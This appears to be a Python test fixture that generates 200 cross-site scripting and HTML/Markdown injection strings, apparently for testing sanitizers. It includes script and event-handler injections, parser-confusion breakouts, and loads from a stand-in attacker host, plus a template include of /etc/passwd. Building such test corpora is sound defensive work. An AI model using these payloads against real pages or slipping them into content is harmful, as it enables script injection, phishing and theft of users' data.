"""Texts with which a person, a model or a tool would make a page run their script or fetch from
their server: 200 of them, put together from elements, events, ways of quoting and of writing."""

from __future__ import annotations

from itertools import product

CALL = "window.pwned=1"
SERVER = "https://attacker.example"
"""Nothing may ever be asked of it."""
ELEMENTS = (
    "<img src=x {event}>",
    "<svg {event}>",
    "<body {event}>",
    "<input autofocus {event}>",
    "<details open {event}>",
    "<video><source {event}></video>",
    "<marquee {event}>",
    "<a href='#' {event}>x</a>",
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover")
QUOTES = ('"', "'", "")
WHOLE = (
    f"<script>{CALL}</script>",
    f"<script src={SERVER}/x.js></script>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src={SERVER}></iframe>",
    f"<object data={SERVER}/x.swf></object>",
    f"<embed src={SERVER}/x>",
    f"<link rel=stylesheet href={SERVER}/x.css>",
    f"<style>@import '{SERVER}/x.css'; main {{ display: none }}</style>",
    f"<base href={SERVER}/>",
    f"<meta http-equiv=refresh content='0;url={SERVER}'>",
    f"<form action={SERVER}><button>Log in</button></form>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{CALL} /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={CALL}>#x'/></svg>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</pre></main><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f'"><script>{CALL}</script>',
    f"' autofocus onfocus='{CALL}",
    f'" onmouseover="{CALL}" x="',
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"{{{{ ''.__class__.__mro__ }}}}<script>{CALL}</script>",
    "{% include '/etc/passwd' %}",
    "${" + CALL + "}",
    f"\u2028</script><script>{CALL}</script>",
)
MARKDOWN = (
    "[x](javascript:{call})",
    "[x](JaVaScRiPt:{call})",
    "[x](java\tscript:{call})",
    "[x]( javascript:{call})",
    "[x](&#106;avascript:{call})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:{call})",
    "<javascript:{call}>",
    "![x]({server}/pixel.png)",
    "![x](//attacker.example/pixel.png)",
    '![x](x "onerror={call}")',
    "![x][ref]\n\n[ref]: {server}/pixel.png",
    "[x][ref]\n\n[ref]: javascript:{call}",
    '[x]({server} "\' onmouseover={call} ")',
    '[x](http://a.example/" onmouseover="{call})',
    "```html\n</code></pre><script>{call}</script>\n```",
    "`<script>{call}</script>`",
    "| <img src=x onerror={call}> | b |\n|---|---|\n| [x](javascript:{call}) | d |",
    "<!-- --!><script>{call}</script>",
    "# <svg onload={call}>",
    "- <img src=x onerror={call}>",
    "> <script>{call}</script>",
    "<details><summary onclick={call}>x</summary></details>",
)


def payloads() -> list[str]:
    """Each once, in a fixed order."""
    texts = [*WHOLE]
    texts += [text.format(call=CALL, server=SERVER) for text in MARKDOWN]
    for element, event, quote in product(ELEMENTS, EVENTS, QUOTES):
        texts.append(element.format(event=f"{event}={quote}{CALL}{quote}"))
    texts += [text.replace("<", "&lt;").replace(">", "&gt;") for text in WHOLE[:8]]
    texts += [text.replace("<", "\uff1c").upper() for text in WHOLE[:8]]
    return list(dict.fromkeys(texts))[:200]
